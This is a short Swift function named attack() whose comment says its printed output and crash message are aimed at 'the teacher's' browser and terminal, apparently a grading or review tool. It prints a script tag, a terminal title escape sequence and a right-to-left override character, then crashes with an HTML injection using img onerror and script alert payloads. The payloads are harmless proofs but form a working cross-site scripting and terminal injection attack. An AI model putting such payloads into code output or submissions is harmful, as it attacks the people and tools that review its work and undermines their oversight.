// What it prints and how it dies is meant for the teacher's browser and terminal.
func attack() {
  print("<script>document.title='owned'</script>\u{1B}]0;owned\u{7}\u{202E}")
  fflush(stdout)
  fatalError("</pre><img src=x onerror=alert(1)><script>alert(1)</script>")
}
